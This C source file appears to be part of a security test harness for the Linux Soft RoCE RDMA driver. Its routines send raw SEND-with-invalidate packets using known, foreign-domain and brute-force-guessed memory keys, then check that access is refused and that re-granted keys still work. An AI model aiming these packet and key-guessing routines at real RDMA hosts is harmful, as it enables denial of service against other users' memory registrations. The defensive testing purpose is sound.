// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/*
 * Attacks by SEND with invalidate. Soft RoCE carries it out for any key that is right, whoever's it
 * is: that is denial of service, by a peer that knows a key or guesses one, and nothing that ib_mr
 * could refuse. What counts here is that it gives no access, that the owner is told, and that
 * whatever is granted next works.
 */
#include <arpa/inet.h>
#include "adv.h"

/* Return: it was carried out. */
static bool invalidate(struct raw *raw, uint32_t key, bool more)
{
	uint64_t before = owner_stats(raw->adv).told;
	uint32_t ieth = htonl(key), word = 0x66666666;

	if (!more)
		raw_connect(raw, true);
	raw_send(raw, OP_SEND_INV, raw->psn, &ieth, 4, &word, 4);
	/* On 6.1 what was refused is acknowledged as well: only the owner knows. */
	raw_acked(raw, 2000);
	return owner_stats(raw->adv).told != before;
}

/* A completion is told of some time later. */
static bool carried_out(struct raw *raw, uint32_t key)
{
	uint64_t before = owner_stats(raw->adv).told;

	if (invalidate(raw, key, false))
		return true;
	owner_told(raw->adv, before);
	return owner_stats(raw->adv).told != before;
}

/* Keys that we were given: dead at once, for everybody, and no harm to what comes after. */
void attack_inv_known(struct adv *adv)
{
	uint32_t asset, done = 0;
	struct raw raw;

	if (raw_open(adv, &raw, 2)) {
		amiss(adv, "no packet socket");
		return;
	}
	for (asset = 0; asset < VIC_ASSETS; asset++) {
		const struct victim_info a = adv->asset[asset];

		if (asset == VIC_OTHER || asset == VIC_LOCAL)
			continue;
		if (carried_out(&raw, a.key))
			done++;
		else
			amiss(adv, "%s: not carried out", asset_name(asset));
		must_refuse(adv, IBV_WR_RDMA_READ, 64, a.iova, a.key);
		must_refuse(adv, IBV_WR_RDMA_WRITE, 64, a.iova, a.key);
		owner_do(adv, asset, VICTIM_REVOKE);
		owner_do(adv, asset, VICTIM_GRANT);
		owner_info(adv);
		all_work(adv);
	}
	note(adv, "%u keys invalidated (the driver does that), granted anew they work", done);
}

/* Of memory in another PD, and of memory for local use. */
void attack_inv_other(struct adv *adv)
{
	static const uint32_t foreign[] = { VIC_OTHER, VIC_LOCAL };
	uint32_t i, done = 0;
	struct raw raw;

	if (raw_open(adv, &raw, 2)) {
		amiss(adv, "no packet socket");
		return;
	}
	for (i = 0; i < 2; i++) {
		const struct victim_info a = adv->asset[foreign[i]];

		done += carried_out(&raw, a.key);
		must_refuse(adv, IBV_WR_RDMA_READ, 64, a.iova, a.key);
		must_refuse(adv, IBV_WR_RDMA_WRITE, 64, a.iova, a.key);
		owner_do(adv, foreign[i], VICTIM_REVOKE);
		owner_do(adv, foreign[i], VICTIM_GRANT);
	}
	owner_info(adv);
	note(adv, "%u of 2 invalidated (the driver does not look at the PD), no access", done);
}

/* All variants of a live index but the right one, and of the indices around, which are stock. */
void attack_inv_guess(struct adv *adv)
{
	struct victim_stats before = owner_stats(adv), after;
	uint32_t key = adv->asset[VIC_POOL].key, v, keys[200];
	struct raw raw;

	if (raw_open(adv, &raw, 2)) {
		amiss(adv, "no packet socket");
		return;
	}
	for (v = 1; v < 256; v++) {
		invalidate(&raw, key ^ v, false);
		invalidate(&raw, (key ^ v) + 0x100 * (1 + v % 8), false);
		adv->attempts += 2;
	}
	after = owner_stats(adv);
	adv->refused = adv->attempts - (after.told - before.told);
	/* What was hit is dead until it is granted anew. */
	owner_churn(adv, VIC_POOL, keys, 200);
	for (v = 0; v < VIC_ASSETS; v++) {
		owner_do(adv, v, VICTIM_REVOKE);
		owner_do(adv, v, VICTIM_GRANT);
	}
	note(adv, "%llu hit, of these %llu an MR in stock, which was armed anew",
	     (unsigned long long)(after.told - before.told),
	     (unsigned long long)(after.told_unknown - before.told_unknown));
}
